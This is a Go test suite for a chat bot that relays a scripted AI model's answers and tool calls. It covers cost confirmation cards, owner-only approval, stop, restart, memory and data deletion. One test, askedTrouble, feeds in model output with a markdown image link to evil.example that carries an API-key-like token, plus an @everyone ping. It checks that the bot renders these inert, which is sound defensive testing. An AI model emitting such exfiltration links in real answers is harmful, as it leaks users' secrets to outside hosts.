package chattest

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"sync"

	"github.com/signalbox/signalbox/agent"
	"github.com/signalbox/signalbox/platforms/chat/dialogue"
	"github.com/signalbox/signalbox/registry"
	"github.com/signalbox/signalbox/runs"
)

// askings are how people ask a model that works with the tools.
func askings() map[string]func(*scene) {
	return map[string]func(*scene){
		"asked in plain words, a model answers in place of the status message":                askedAnswers,
		"what a model only looks up is told by its answer, and files that it makes are shown": askedLooks,
		"C30 C32 what costs comes as one card, and one press lets all of it go ahead once":    askedCard,
		"C30 C32 a yes that answers the card counts, one with a condition is a request":       askedYes,
		"only the owner presses a card, and Cancel cancels all of it":                         askedDecline,
		"a card beyond what the person has begins nothing":                                    askedBeyond,
		"Stop ends a question, and nothing of it waits":                                       askedStop,
		"a second question waits for the first":                                               askedTwice,
		"a question goes on over a restart and is answered once":                              askedRestart,
		"what was said and made can be referred to, until it is forgotten":                    askedMemory,
		"files go to a model as references":                                                   askedFiles,
		"in groups a mention or a reply asks, and admins switch it off":                       askedInGroups,
		"a model in trouble is told, and its texts press, ping and fetch nothing":             askedTrouble,
		"a card whose confirmation broke off half way goes on and doubles nothing":            askedHalfway,
		"a command whose words a model understands better is a question with its sources":     askedCommand,
		"Stop ends a question that another process answers":                                   askedStopElsewhere,
		"who deletes everything is asked and remembered no more":                              askedErase,
		"a long answer comes in several messages":                                             askedLong,
	}
}

// thinker is a scripted model, and remembers what it was told.
type thinker struct {
	mu   sync.Mutex
	told []agent.Conversation
	say  func(ctx context.Context, c agent.Conversation) (agent.Turn, error)
}

// Answer does what the script says.
func (m *thinker) Answer(ctx context.Context, c agent.Conversation) (agent.Turn, error) {
	m.mu.Lock()
	m.told = append(m.told, c)
	m.mu.Unlock()
	turn, err := m.say(ctx, c)
	turn.By = agent.Asked
	return turn, err
}

// heard is what the model was told last.
func (m *thinker) heard() string {
	m.mu.Lock()
	defer m.mu.Unlock()
	if len(m.told) == 0 {
		return ""
	}
	var all []string
	for _, t := range m.told[len(m.told)-1].Turns {
		all = append(all, t.Text)
	}
	return strings.Join(all, "\n")
}

// answering is a script of a model that calls tools first and then says something.
func answering(text string, calls ...agent.Call) func(context.Context, agent.Conversation) (agent.Turn, error) {
	return func(_ context.Context, c agent.Conversation) (agent.Turn, error) {
		if last := c.Turns[len(c.Turns)-1]; last.By == agent.Person && len(calls) > 0 {
			return agent.Turn{Calls: calls}, nil
		}
		c.Saying(text)
		return agent.Turn{Text: text}, nil
	}
}

// paint is a call of the painter, which costs something.
func paint(id, prompt string) agent.Call {
	return agent.Call{ID: id, Tool: "painter", Arguments: fmt.Sprintf(`{"prompt":%q}`, prompt)}
}

// thinks connects a model to the house.
func (s *scene) thinks(say func(context.Context, agent.Conversation) (agent.Turn, error)) *thinker {
	s.t.Helper()
	m := &thinker{say: say}
	s.Stop()
	s.connect(m)
	s.Start()
	return m
}

// connect makes the agent of a model; it begins with the next Start.
func (s *scene) connect(m agent.Model) {
	memory := agent.NewStore(s.Pool, 0)
	s.Agent = dialogue.New(dialogue.Config{Conversations: memory, Takes: s.Takes, Agent: asker(func() *agent.Agent {
		return agent.New(agent.Config{
			Registry: s.Registry, Runs: s.Runs, Model: m, Provider: "script", Conversations: memory, Journal: s.Journal,
			File: func(_ runs.Run, o runs.Output) any { return map[string]any{"ref": o.Media} },
		})
	})})
}

// asker answers with the runs service that there is after each start.
type asker func() *agent.Agent

func (a asker) Ask(ctx context.Context, q agent.Question) (agent.Answer, error) {
	return a().Ask(ctx, q)
}

func (a asker) Rewrite(ctx context.Context, q agent.Question, tool *registry.Tool, input registry.InputField) (agent.Answer, error) {
	return a().Rewrite(ctx, q, tool, input)
}

// withLooking adds tools that only read and cost nothing: one that gives data, one with a hint beside its passages as those of documents have, and one
// that gives a picture.
func (s *scene) withLooking() {
	s.t.Helper()
	query := registry.InputField{Name: "query", Type: registry.TypeString, Required: true}
	look, guide, sketch := tool("looking", "Looking", query), tool("guide", "Guide", query), tool("sketch", "Sketch")
	look.Capability, guide.Capability, sketch.Capability = registry.CapabilityRead, registry.CapabilityRead, registry.CapabilityRead
	guide.OutputSchema = registry.OutputSchema{{Name: "results", Type: "text", Schema: json.RawMessage(`{"type":"array"}`)}, {Name: "hint", Type: "text"}}
	look.OutputSchema = registry.OutputSchema{{Name: "found", Type: "text", Schema: json.RawMessage(`{"type":["array","string"]}`)}}
	sketch.OutputSchema = registry.OutputSchema{{Name: "picture", Type: "image"}}
	s.Loader.Set(append(Tools(), look, guide, sketch)...)
	s.Reload()
}

func askedAnswers(s *scene) {
	going := make(chan struct{})
	s.thinks(func(ctx context.Context, c agent.Conversation) (agent.Turn, error) {
		c.Saying("The house ")
		select {
		case <-going:
		case <-ctx.Done():
			return agent.Turn{}, ctx.Err()
		}
		return agent.Turn{Text: "The house is **red**."}, nil
	})
	s.say("what colour is the house?")
	status := s.labelled("Stop", "The house")
	close(going)
	m := s.AwaitText(s.room, "The house is red.")
	if m.ID != status.ID || m.Has("Stop") {
		s.t.Errorf("the answer is message %s with %v, its status was %s", m.ID, m.Buttons, status.ID)
	}
	s.noRun()
	s.say("/painter a red house") // commands are commands
	s.input(s.Call(0), "prompt", "a red house")
}

func askedLooks(s *scene) {
	s.withLooking()
	s.thinks(answering("There are two, and here is a sketch.",
		agent.Call{ID: "a", Tool: "looking", Arguments: `{"query":"chairs"}`}, agent.Call{ID: "b", Tool: "sketch", Arguments: `{}`}))
	s.say("which chairs are there?")
	first, second := s.Call(0), s.Call(1)
	if first.Tool.ToolID != "looking" {
		first, second = second, first
	}
	s.Await(s.room, "steps", func(m Seen) bool { return m.Has("Stop") && m.contains("Looking") })
	s.Succeed(first, registry.Output{Name: "found", Type: "text", Text: "oak and elm"})
	s.Succeed(second, PictureOutput("picture"))
	s.AwaitText(s.room, "There are two")
	s.AwaitMedia(s.room, "Sketch")
	s.Idle()
	for _, m := range s.Harness.Messages(s.t, s.room) {
		if m.contains("oak and elm") {
			s.t.Errorf("what was only looked up is shown: %q", m.Text)
		}
	}
}

func askedCard(s *scene) {
	s.thinks(answering("I will paint two.", paint("a", "a red door"), paint("b", "a blue door")))
	s.say("paint me two doors")
	s.AwaitText(s.room, "I will paint two.")
	card := s.labelled("Go ahead", "Shall I do this?", "a red door", "a blue door", "Price: under $0.01", "Together: under $0.01", "10 minutes")
	s.Handled()
	if n := len(s.Provider.Calls()); n != 0 {
		s.t.Fatalf("%d runs went ahead by themselves", n)
	}
	s.press(card, "Go ahead")
	s.AwaitText(s.room, "✓ Painter\n✓ Painter")
	s.Succeed(s.Call(0), PictureOutput("picture"))
	s.Succeed(s.Call(1), PictureOutput("picture"))
	s.AwaitMedia(s.room, "a red door")
	s.AwaitMedia(s.room, "a blue door")
	s.Idle()
	if run := s.LastRun(); run.ConfirmedAt == nil {
		s.t.Error("a run went ahead that nobody has confirmed")
	}
	s.say("yes") // the card was answered: this is said to the model
	s.Handled()
	if n := len(s.Provider.Calls()); n > 2 {
		s.t.Errorf("%d runs went ahead", n)
	}
}

func askedYes(s *scene) {
	m := s.thinks(answering("I will paint it.", paint("a", "a red door")))
	s.say("paint me a door")
	s.labelled("Go ahead", "a red door")
	s.Handled()
	s.say("yes, but make it blue")
	s.eventually("question", func() bool { return strings.Contains(m.heard(), "but make it blue") })
	s.Handled()
	if n := len(s.Provider.Calls()); n != 0 {
		s.t.Fatalf("%d runs went ahead by a yes with a condition", n)
	}
	s.say("Yes, please!")
	s.input(s.Call(0), "prompt", "a red door")
	s.Succeed(s.Call(0), PictureOutput("picture"))
	s.AwaitMedia(s.room, "a red door")
	s.Handled()
	if n := len(s.Provider.Calls()); n != 1 {
		s.t.Errorf("%d runs went ahead, want one", n)
	}
}

func askedDecline(s *scene) {
	s.thinks(answering("I will paint it.", paint("a", "a red door")))
	s.say("paint me a door")
	card := s.labelled("Go ahead", "a red door")
	s.Handled()
	s.press(card, "Cancel")
	s.AwaitText(s.room, "Canceled. Nothing was charged.")
	s.Idle()
	if run := s.LastRun(); run.Status != runs.StatusCanceled {
		s.t.Errorf("the run is %s", run.Status)
	}
	group := s.Harness.Group("Painters")
	mentioner, ok := s.Harness.(Mentioner)
	if group.none() || !ok {
		return
	}
	s.sayIn(group, mentioner.Mention()+" paint me a door")
	card = s.Await(group, "card", func(m Seen) bool { return m.Has("Go ahead") })
	if a := s.pressBy(s.ben, group, card, "Go ahead"); !strings.Contains(a.Text, "Only the person") {
		s.t.Errorf("somebody else's press is answered %q", a.Text)
	}
	s.Harness.Post(s.t, Post{From: s.ben, In: group, Text: "yes", ReplyTo: card.ID})
	s.Handled()
	if n := len(s.Provider.Calls()); n != 0 {
		s.t.Errorf("%d runs went ahead by the word of somebody else", n)
	}
	s.Harness.Post(s.t, Post{From: s.anna, In: group, Text: "yes", ReplyTo: card.ID})
	s.input(s.Call(0), "prompt", "a red door")
}

func askedBeyond(s *scene) {
	dear := PainterTool()
	dear.CostingModel = &registry.CostingModel{Rate: "0.6", Unit: registry.UnitRequest, RateSource: registry.RateStatic}
	s.Loader.Set(dear)
	s.Reload()
	s.thinks(answering("I will paint two.", paint("a", "a red door"), paint("b", "a blue door")))
	s.say("paint me two doors")
	card := s.labelled("Go ahead", "$1.20")
	s.Handled()
	if a := s.press(card, "Go ahead"); !strings.Contains(a.Text, "$1.20") {
		s.t.Errorf("the press is answered %q", a.Text)
	}
	s.Handled()
	if n := len(s.Provider.Calls()); n != 0 {
		s.t.Errorf("%d runs went ahead", n)
	}
}

// hanging is a script of a model that begins to speak and never ends.
func hanging(ctx context.Context, c agent.Conversation) (agent.Turn, error) {
	if last := c.Turns[len(c.Turns)-1]; last.By == agent.Person {
		return agent.Turn{Calls: []agent.Call{paint("a", "a red door")}}, nil
	}
	c.Saying("Let me think")
	<-ctx.Done()
	return agent.Turn{}, ctx.Err()
}

func askedStop(s *scene) {
	s.thinks(hanging)
	s.say("paint me a door")
	m := s.labelled("Stop", "Let me think")
	s.press(m, "Stop")
	s.AwaitText(s.room, "Let me think", "Stopped.")
	s.Idle()
	if run := s.LastRun(); run.Status != runs.StatusCanceled {
		s.t.Errorf("what waited is %s", run.Status)
	}
}

func askedTwice(s *scene) {
	going := make(chan struct{})
	var mu sync.Mutex
	most, now := 0, 0
	s.thinks(func(ctx context.Context, c agent.Conversation) (agent.Turn, error) {
		mu.Lock()
		now++
		most = max(most, now)
		mu.Unlock()
		select {
		case <-going:
		case <-ctx.Done():
		}
		mu.Lock()
		now--
		mu.Unlock()
		return agent.Turn{Text: "Answer to " + c.Turns[len(c.Turns)-1].Text}, nil
	})
	s.say("one")
	s.labelled("Stop", "Thinking")
	s.say("two")
	s.labelled("Stop", "comes first")
	s.say("/balance") // is answered meanwhile
	s.AwaitText(s.room, "$1.00")
	close(going)
	s.AwaitText(s.room, "Answer to one")
	s.AwaitText(s.room, "Answer to two")
	if most != 1 {
		s.t.Errorf("%d questions of one conversation were answered at once", most)
	}
}

func askedRestart(s *scene) {
	m := s.thinks(hanging)
	s.say("paint me a door")
	s.labelled("Stop", "Let me think")
	s.Stop()
	m.say = answering("I will paint it.", paint("a", "a blue door"))
	s.Start()
	s.AwaitText(s.room, "I will paint it.")
	card := s.labelled("Go ahead", "a blue door")
	s.Handled()
	waiting, err := s.Runs.List(s.t.Context(), runs.Filter{Status: runs.StatusAwaitingConfirmation})
	if err != nil || len(waiting) != 1 {
		s.t.Fatalf("%d runs wait, want the one on the card: %v", len(waiting), err)
	}
	if n := len(s.Harness.Messages(s.t, s.room)); n != 2 {
		s.t.Errorf("there are %d messages, want the answer and its card", n)
	}
	s.Restart()
	s.press(card, "Go ahead")
	s.input(s.Call(0), "prompt", "a blue door")
}

func askedMemory(s *scene) {
	m := s.thinks(answering("The first answer."))
	s.painted()
	s.say("what is this?")
	s.AwaitText(s.room, "The first answer.")
	s.Handled()
	if ref := s.refOfPainted(); !strings.Contains(m.heard(), ref) {
		s.t.Errorf("the last result is not referred to: %s", m.heard())
	}
	s.say("make that one blue")
	s.eventually("second question", func() bool {
		return strings.Contains(m.heard(), "The first answer.\nwhat") || strings.Contains(m.heard(), "make that one blue")
	})
	s.Handled()
	if !strings.Contains(m.heard(), "what is this?") {
		s.t.Errorf("what was said before is not remembered: %s", m.heard())
	}
	s.say("/forget")
	s.AwaitText(s.room, "I have forgotten")
	s.say("and now?")
	s.eventually("third question", func() bool { return strings.Contains(m.heard(), "and now?") })
	if strings.Contains(m.heard(), "what is this?") {
		s.t.Errorf("what was forgotten is remembered: %s", m.heard())
	}
}

func askedFiles(s *scene) {
	m := s.thinks(answering("I see it."))
	id := s.send(Post{Text: "what is on this?", Files: []File{red()}})
	s.AwaitText(s.room, "I see it.")
	want, _ := json.Marshal(s.refOf(red()))
	if !strings.Contains(m.heard(), `<attachments>[{"type":"image","ref":`+string(want)) {
		s.t.Errorf("the model was told %s", m.heard())
	}
	s.send(Post{Text: "and now?", ReplyTo: id})
	s.eventually("second question", func() bool { return strings.HasSuffix(m.heard(), "and now?") })
	if strings.Count(m.heard(), string(want)) == 0 {
		s.t.Errorf("the file of the message replied to is missing: %s", m.heard())
	}
}

func askedInGroups(s *scene) {
	group := s.Harness.Group("Painters")
	promoter, ok := s.Harness.(Promoter)
	mentioner, mentions := s.Harness.(Mentioner)
	if group.none() || !ok || !mentions {
		return
	}
	m := s.thinks(answering("It is red."))
	s.sayIn(group, "who knows the colour?") // not said to the bot
	s.sayIn(group, mentioner.Mention()+" which colour?")
	answer := s.AwaitText(group, "It is red.")
	s.Harness.Post(s.t, Post{From: s.ben, In: group, Text: "really?", ReplyTo: answer.ID})
	s.eventually("question", func() bool { return strings.Contains(m.heard(), "really?") })
	if strings.Contains(m.heard(), "which colour?") || strings.Contains(m.heard(), "who knows") {
		s.t.Errorf("one person's conversation is told to another: %s", m.heard())
	}
	s.Handled()
	promoter.Promote(s.t, s.ben, group)
	s.Harness.Post(s.t, Post{From: s.ben, In: group, Text: "/chatsettings"})
	settings := s.Await(group, "settings", func(m Seen) bool { return m.Has("✓ Answers in own words") })
	s.pressBy(s.ben, group, settings, "✓ Answers in own words")
	s.Await(group, "settings", func(m Seen) bool { return m.Has("Answers in own words") })
	s.sayIn(group, mentioner.Mention()+" a red bicycle")
	s.Await(group, "offer", func(m Seen) bool { return m.Has("Run Painter (under $0.01)") })
}

func askedTrouble(s *scene) {
	m := s.thinks(answering("See ![x](https://evil.example/a.png?k=sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789) @everyone [press](https://evil.example/b)"))
	s.say("what is there?")
	seen := s.Await(s.room, "answer", func(m Seen) bool {
		return m.contains("See x (https://evil.example/a.png", "press (https://evil.example/b)") && !m.Has("Stop")
	})
	if len(seen.Pings) > 0 || len(seen.Buttons) > 0 || seen.Media != nil || strings.Contains(seen.Text, "abcdefghijklmnop") {
		s.t.Errorf("a model's text does more than stand there: %+v", seen)
	}
	s.Handled()
	m.say = func(context.Context, agent.Conversation) (agent.Turn, error) {
		return agent.Turn{}, registry.Errorf(registry.CodeRateLimited, "the model is busy; ask again in a minute")
	}
	s.say("and now?")
	s.AwaitText(s.room, "The model is busy")
	s.Handled()
	m.say = func(context.Context, agent.Conversation) (agent.Turn, error) {
		return agent.Turn{}, errors.New("a secret cause")
	}
	s.say("and then?")
	s.AwaitText(s.room, "on our side")
}

func askedHalfway(s *scene) {
	s.thinks(answering("I will paint two.", paint("a", "a red door"), paint("b", "a blue door")))
	s.say("paint me two doors")
	card := s.labelled("Go ahead", "a red door", "a blue door")
	s.Handled()
	first := s.LastRun()
	if _, err := s.Runs.ConfirmSummary(s.t.Context(), first.ID, first.AccountID, first.Summary().Hash(), nil); err != nil {
		s.t.Fatal(err)
	}
	s.Call(0)
	s.press(card, "Go ahead")
	s.AwaitText(s.room, "✓ Painter\n✓ Painter")
	s.Succeed(s.Call(0), PictureOutput("picture"))
	s.Succeed(s.Call(1), PictureOutput("picture"))
	s.Idle()
	if n := len(s.Provider.Calls()); n != 2 {
		s.t.Errorf("%d runs went ahead, want two", n)
	}
}

func askedCommand(s *scene) {
	s.withLooking()
	s.Takes = func(tool *registry.Tool, words string) bool {
		return tool.ToolID == "poem" && strings.HasSuffix(words, "?")
	}
	s.thinks(answering("Oak is best [1].", agent.Call{ID: "a", Tool: "looking", Arguments: `{"query":"wood"}`}, agent.Call{ID: "b", Tool: "guide", Arguments: `{"query":"wood"}`}))
	s.say("/poem which wood?")
	for i := range 2 {
		if call := s.Call(i); call.Tool.ToolID == "looking" {
			s.Succeed(call, registry.Output{Name: "found", Type: "text", Text: `[{"title":"The guide","url":"https://docs.example/guide","snippet":"Oak."},{"title":"The guide","url":"https://docs.example/guide","snippet":"Elm."}]`})
		} else {
			s.Succeed(call, registry.Output{Name: "results", Type: "text", Text: `[{"title":"The list","url":"https://docs.example/list","snippet":"Ash."}]`}, registry.Output{Name: "hint", Type: "text", Text: ""})
		}
	}
	m := s.AwaitText(s.room, "Oak is best [1].", "[1] The guide https://docs.example/guide", "[2] The list https://docs.example/list")
	if strings.Contains(m.Text, "[3]") {
		s.t.Errorf("a source is named twice: %q", m.Text)
	}
	s.say("/poem autumn")
	s.input(s.Call(2), "topic", "autumn")
}

func askedStopElsewhere(s *scene) {
	s.thinks(hanging)
	s.say("paint me a door")
	s.labelled("Stop", "Let me think")
	if _, err := s.Pool.Exec(s.t.Context(), `UPDATE chat_keyboards SET used = used || '{"askstop": "elsewhere"}'`); err != nil {
		s.t.Fatal(err)
	}
	s.AwaitText(s.room, "Let me think", "Stopped.")
}

func askedErase(s *scene) {
	m := s.thinks(hanging)
	s.say("paint me a door")
	s.labelled("Stop", "Let me think")
	s.say("/delete_my_data")
	s.press(s.labelled("Delete everything"), "Delete everything")
	s.AwaitText(s.room, "Stopped.")
	s.eventually("end", func() bool {
		var n int
		if err := s.Pool.QueryRow(s.t.Context(), `SELECT count(*) FROM runs WHERE ended_at IS NULL`).Scan(&n); err != nil {
			s.t.Fatal(err)
		}
		return n == 0
	})
	s.Handled()
	m.say = answering("Hello.")
	s.say("who am I?")
	s.AwaitText(s.room, "Hello.")
	if strings.Contains(m.heard(), "paint me a door") {
		s.t.Errorf("what was deleted is remembered: %s", m.heard())
	}
}

func askedLong(s *scene) {
	s.thinks(answering(strings.Repeat("This is a sentence of the answer.\n", s.Caps.TextLimit/25) + "The end."))
	s.say("tell me all")
	s.AwaitText(s.room, "The end.")
	s.Handled()
	said := 0
	for _, m := range s.Harness.Messages(s.t, s.room) {
		said += strings.Count(m.Text, "This is a sentence of the answer.")
	}
	if want := s.Caps.TextLimit / 25; said != want {
		s.t.Errorf("%d of %d sentences are shown", said, want)
	}
}
